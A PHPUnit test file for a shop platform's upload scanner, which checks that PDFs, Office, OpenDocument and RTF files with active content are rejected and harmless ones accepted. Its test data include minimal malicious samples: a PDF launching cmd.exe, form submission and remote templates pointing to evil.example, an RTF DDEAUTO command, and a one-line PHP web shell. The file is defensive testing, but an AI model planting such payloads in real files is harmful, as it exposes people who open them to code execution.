<?php
declare(strict_types=1);

namespace Aisle\Tests\Platform\Uploads;

use Aisle\Features\ProductOptions\OptionSettings;
use Aisle\Platform\Uploads\Content\ArchiveContent;
use Aisle\Platform\Uploads\Content\OfficeMacros;
use PHPUnit\Framework\Attributes\DataProvider;

/**
 * Documents with active content, which runs when the merchant opens them, and harmless ones.
 */
final class ActiveDocumentTest extends UploadTestCase {

	private const SCRIPT = '<</S/JavaScript/JS(app.alert\(1\))>>';

	private static function utf16( string $text ): string {
		return (string) mb_convert_encoding( $text, 'UTF-16LE', 'UTF-8' );
	}

	private static function doc( string $content ): string {
		return "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" . str_repeat( "\0", 504 ) . self::utf16( 'WordDocument' ) . $content
			. str_repeat( "\0", 512 );
	}

	/**
	 * @return array<string, array{string, \Closure(): string, string}> Description => [ name, content, code ].
	 */
	public static function active(): array {
		$zeros = static fn (): string => Samples::pdf_with_packed( str_repeat( '1 0 <</A/B>> ', 10000000 ) );
		return array(
			'a PDF that runs a script when opened'     => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction' . self::SCRIPT ),
				'active_document',
			),
			'a PDF with a script among its names'      => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/Names<</JavaScript 5 0 R>>' ),
				'active_document',
			),
			'a PDF whose script is written in escapes' => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/#4a#61vaScr#69pt/JS 5 0 R>>' ),
				'active_document',
			),
			'a PDF with a script in a packed object'   => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ),
				'active_document',
			),
			'a packed script after 1 MB of page data'  => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, '', random_bytes( 1048576 - 400 ) ),
				'active_document',
			),
			'a packed object with a long dictionary'   => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, str_repeat( ' ', 20000 ) ),
				'active_document',
			),
			'a packed object with an escaped name'     => array(
				'a.pdf',
				static fn (): string => str_replace( '/Type/ObjStm', '/Type/#4fbjStm', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
				'active_document',
			),
			'a script far into a packed object'        => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( bin2hex( random_bytes( 300000 ) ) . self::SCRIPT ),
				'active_document',
			),
			'a PDF that starts a program'              => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/Launch/F(cmd.exe)>>' ),
				'active_document',
			),
			'a PDF with a file inside'                 => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>' ),
				'active_document',
			),
			'a PDF with a file attached to a page'     => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/X<</Subtype/FileAttachment/FS 5 0 R>>' ),
				'active_document',
			),
			'a PDF with rich media'                    => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/X<</Subtype/RichMedia>>' ),
				'active_document',
			),
			'a PDF with an XFA form'                   => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/AcroForm<</XFA[(config)5 0 R]>>' ),
				'active_document',
			),
			'a PDF that submits its form data'         => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' ),
				'active_document',
			),
			'a PDF that opens a website'               => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/URI/URI(http://evil.example)>>' ),
				'active_document',
			),
			'a packed object with two filters'         => array(
				'a.pdf',
				static fn (): string =>
					str_replace( '/FlateDecode', '[/ASCIIHexDecode/FlateDecode]', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
				'locked_document',
			),
			'a packed object that cannot be unpacked'  => array(
				'a.pdf',
				static fn (): string =>
					str_replace( "stream\nx", "stream\n" . chr( 7 ), Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
				'locked_document',
			),
			'a packed object with a predictor'         => array(
				'a.pdf',
				static fn (): string => str_replace(
					'/FlateDecode',
					'/FlateDecode/DecodeParms<</Predictor 12>>',
					Samples::pdf_with_packed( '7 0 ' . self::SCRIPT )
				),
				'locked_document',
			),
			'two filters behind a comment'             => array(
				'a.pdf',
				static fn (): string =>
					str_replace( '/FlateDecode', "%\n[/ASCIIHexDecode/FlateDecode]", Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
				'locked_document',
			),
			'a second entry with two filters'          => array(
				'a.pdf',
				static fn (): string => str_replace(
					'/FlateDecode',
					'/FlateDecode/Filter[/ASCIIHexDecode/FlateDecode]',
					Samples::pdf_with_packed( '7 0 ' . self::SCRIPT )
				),
				'locked_document',
			),
			'a predictor in another object'            => array(
				'a.pdf',
				static fn (): string =>
					str_replace( '/FlateDecode', '/FlateDecode/DecodeParms 5 0 R', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
				'locked_document',
			),
			'another object header in a string'        => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, '/Y(9 0 obj<<)' ),
				'active_document',
			),
			'another object header in a comment'       => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, " %9 0 obj<<\n" ),
				'active_document',
			),
			'an object header and an LZW filter'       => array(
				'a.pdf',
				static fn (): string => str_replace(
					'/FlateDecode',
					'[/LZWDecode/FlateDecode]',
					Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, " %9 0 obj<<\n" )
				),
				'locked_document',
			),
			'an XFA form behind a comment'             => array(
				'a.pdf',
				static fn (): string => Samples::pdf( "/AcroForm<</XFA%\n[(config)5 0 R]>>" ),
				'active_document',
			),
			'a packed object of 130 MB'                => array( 'a.pdf', $zeros, 'archive_bomb' ),
			'Word with macros named docx'              => array(
				'a.docx',
				static fn (): string => Samples::docx( array( 'word/vbaProject.bin' => 'x' ) ),
				'active_document',
			),
			'macros in a folder of another name'       => array(
				'a.docx',
				static fn (): string => Samples::docx( array( 'Word/VBAPROJECT.BIN' => 'x' ) ),
				'active_document',
			),
			'Word that declares macros'                => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'[Content_Types].xml' => '<Types>'
						. '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
						. '</Types>',
				) ),
				'active_document',
			),
			'Word that declares macros in UTF-16'      => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'[Content_Types].xml' => "\xFF\xFE"
						. self::utf16( '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>' ),
				) ),
				'active_document',
			),
			'Word with an ActiveX control'             => array(
				'a.docx',
				static fn (): string => Samples::docx( array( 'word/activeX/activeX1.xml' => '<ax/>' ) ),
				'active_document',
			),
			'Word with a template in UTF-16'           => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'word/_rels/settings.xml.rels' => "\xFF\xFE" . mb_convert_encoding(
						'<Relationships><Relationship TargetMode="External" Target="http://x/㱁" Type="http://x/attachedTemplate"/>'
							. '</Relationships>',
						'UTF-16LE',
						'UTF-8'
					),
				) ),
				'active_document',
			),
			'Word with a remote template'              => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'word/_rels/settings.xml.rels' => '<Relationships>'
						. '<Relationship Id="rId1" '
						. 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
						. 'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
				) ),
				'active_document',
			),
			'Word with a remote template in escapes'   => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'word/_rels/settings.xml.rels' => '<Relationships>'
						. '<Relationship TargetMode="&#69;xternal" Target="https://evil.example/t.dotm" Type="http://x/&#x61;'
						. 'ttachedTemplate"/></Relationships>',
				) ),
				'active_document',
			),
			'Word with a program packed as an object'  => array(
				'a.docx',
				static fn (): string =>
					Samples::docx( array( 'word/embeddings/oleObject1.bin' => self::doc( "\1\0" . self::utf16( 'Ole10Native' ) ) ) ),
				'active_document',
			),
			'Excel with macros named xlsx'             => array(
				'a.xlsx',
				static fn (): string => Samples::zip( array(
					'[Content_Types].xml' => '<Types/>',
					'_rels/.rels'         => '<Relationships/>',
					'xl/workbook.xml'     => '<workbook/>',
					'xl/vbaProject.bin'   => 'x',
				) ),
				'active_document',
			),
			'an Excel template that is no zip'         => array(
				'a.xltx',
				static fn (): string => 'MZ' . random_bytes( 300 ),
				'content_mismatch',
			),
			'an old Excel add-in with macros'          => array(
				'a.xla',
				static fn (): string => self::doc( self::utf16( '_VBA_PROJECT' ) ),
				'active_document',
			),
			'an old slide show that is a zip'          => array( 'a.pps', static fn (): string => Samples::docx(), 'content_mismatch' ),
			'an Access database'                       => array(
				'a.mdb',
				static fn (): string => "\0\1\0\0Standard Jet DB\0" . str_repeat( "\0", 300 ),
				'forbidden_type',
			),
			'a LibreOffice database'                   => array(
				'a.odb',
				static fn (): string =>
					Samples::zip( array( 'mimetype' => 'application/vnd.oasis.opendocument.database', 'content.xml' => '<office/>' ) ),
				'forbidden_type',
			),
			'OpenDocument with macros'                 => array(
				'a.odt',
				static fn (): string => Samples::zip( array(
					'mimetype'                   => 'application/vnd.oasis.opendocument.text',
					'content.xml'                => '<office/>',
					'Basic/Standard/Module1.xml' => '<script/>',
				) ),
				'active_document',
			),
			'OpenDocument with a script'               => array(
				'a.odt',
				static fn (): string => Samples::zip( array(
					'mimetype'            => 'application/vnd.oasis.opendocument.text',
					'content.xml'         => '<office/>',
					'Scripts/python/a.py' => 'x',
				) ),
				'active_document',
			),
			'old Word with macros'                     => array(
				'a.doc',
				static fn (): string => self::doc( self::utf16( '_VBA_PROJECT' ) ),
				'active_document',
			),
			'old Word with a program as an object'     => array(
				'a.doc',
				static fn (): string => self::doc( "\1\0" . self::utf16( 'Ole10Native' ) ),
				'active_document',
			),
			'RTF with an object'                       => array(
				'a.rtf',
				static fn (): string => '{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}',
				'active_document',
			),
			'RTF with an object that updates itself'   => array(
				'a.rtf',
				static fn (): string => '{\rtf1' . str_repeat( ' ', 262140 ) . '{\*\objupdate 1}}',
				'active_document',
			),
			'RTF with a remote template'               => array(
				'a.rtf',
				static fn (): string => '{\rtf1{\*\template https://evil.example/a.dotm}}',
				'active_document',
			),
			'RTF that runs a command'                  => array(
				'a.rtf',
				static fn (): string => '{\rtf1{\field{\*\fldinst DDEAUTO cmd "/k calc"}}}',
				'active_document',
			),
		);
	}

	/**
	 * @param \Closure(): string $content
	 */
	#[DataProvider( 'active' )]
	public function test_rejects_document_with_active_content( string $name, \Closure $content, string $code ): void {
		$this->assert_rejected( $code, fn () => $this->upload( $name, $content() ) );
	}

	/**
	 * @return array<string, array{string, \Closure(): string}> Description => [ name, content ].
	 */
	public static function honest(): array {
		return array(
			'a PDF that opens at its first page'  => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction[3 0 R/XYZ null null 1]' ),
			),
			'a PDF that goes to a page'           => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>' ),
			),
			'a PDF that is printed when opened'   => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/OpenAction<</S/Named/N/Print>>' ),
			),
			'a PDF with packed objects'           => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 <</Type/Font/BaseFont/Helvetica>>' ),
			),
			'a PDF with links'                    => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/X<</Subtype/Link/A<</S/URI/URI(https://shop.example)>>>>' ),
			),
			'a PDF about JavaScript'              => array(
				'a.pdf',
				static fn (): string => Samples::pdf( '/Title(Learn JavaScript, Launch a shop, XFA and all)' ),
			),
			'a PDF with a page after its objects' => array(
				'a.pdf',
				static fn (): string =>
					Samples::pdf_with_packed( '7 0 <</A/B>>' ) . "10 0 obj<</Length 9>>stream\n(% obj) Tj\nendstream endobj\n",
			),
			'a PDF with 20 MB of noise'           => array(
				'a.pdf',
				static fn (): string => Samples::pdf_with_packed( '7 0 <</A/B>>', '', random_bytes( 20000000 ) ),
			),
			'Word with a chart and a picture'     => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'word/embeddings/Microsoft_Excel_Sheet.xlsx' => 'PK',
					'word/embeddings/oleObject1.bin'             => self::doc( self::utf16( 'Equation Native' ) ),
					'word/media/image1.png'                      => Samples::png(),
				) ),
			),
			'Word with links'                     => array(
				'a.docx',
				static fn (): string => Samples::docx( array(
					'word/_rels/document.xml.rels' => '<Relationships>'
						. '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
						. 'Target="https://shop.example" TargetMode="External"/>'
						. '<Relationship Id="rId2" Type="http://x/attachedTemplate" Target="Normal.dotm"/></Relationships>',
				) ),
			),
			'RTF with a local template'           => array(
				'a.rtf',
				static fn (): string =>
					'{\rtf1\ansi{\*\template C:\\\\Office\\\\Normal.dot}{\field{\*\fldinst HYPERLINK "https://shop.example"}}\b Hello\b0 }',
			),
		);
	}

	/**
	 * @param \Closure(): string $content
	 */
	#[DataProvider( 'honest' )]
	public function test_accepts_harmless_document( string $name, \Closure $content ): void {
		self::assertSame( $name, $this->upload( $name, $content() )['file']->file_name );
	}

	public function test_checks_templates_and_slide_shows_like_documents(): void {
		foreach ( array(
			'dotx' => 'word/document.xml',
			'xltx' => 'xl/workbook.xml',
			'ppsx' => 'ppt/presentation.xml',
			'ott'  => 'content.xml',
		) as $extension => $required_file ) {
			$harmless_path = $this->incoming( 'a', Samples::zip( array( $required_file => '<x/>' ) ) )->path;
			ArchiveContent::check( $harmless_path, $extension );
			$active_path = $this->incoming(
				'a',
				Samples::zip( array( $required_file => '<x/>', 'Basic/a.xml' => 'x', 'x/vbaProject.bin' => 'x' ) )
			)->path;
			$this->assert_rejected( 'active_document', static fn () => ArchiveContent::check( $active_path, $extension ) );
			$this->assert_rejected(
				'content_mismatch',
				fn () => ArchiveContent::check( $this->incoming( 'a', Samples::zip() )->path, $extension )
			);
		}
	}

	public function test_accepts_old_office_document_without_macros(): void {
		$path = $this->incoming( 'a.doc', self::doc( str_repeat( "\0", 300000 ) ) )->path;
		OfficeMacros::check_ole_file( $path );
		self::assertFileExists( $path );
	}

	public function test_accepts_active_pdf_and_rtf_when_enabled_but_never_macros(): void {
		$settings = self::settings();
		self::assertFalse( $settings->boolean( OptionSettings::FEATURE, 'accept_active_documents' ) );
		$settings->save( OptionSettings::FEATURE, array( 'accept_active_documents' => true ) );
		self::assertSame( 'a.pdf', $this->upload( 'a.pdf', Samples::pdf( '/OpenAction' . self::SCRIPT ) )['file']->file_name );
		self::assertSame(
			'b.pdf',
			$this->upload( 'b.pdf', str_replace( "stream\nx", "stream\n" . chr( 7 ), Samples::pdf_with_packed( 'x' ) ) )['file']->file_name
		);
		self::assertSame( 'a.rtf', $this->upload( 'a.rtf', '{\rtf1{\object\objemb}}' )['file']->file_name );
		$this->assert_rejected(
			'active_document',
			fn () => $this->upload( 'a.docx', Samples::docx( array( 'word/vbaProject.bin' => 'x' ) ) )
		);
		$this->assert_rejected( 'active_content', fn () => $this->upload( 'c.pdf', Samples::pdf() . '<?php system( $_GET["c"] );' ) );
	}
}
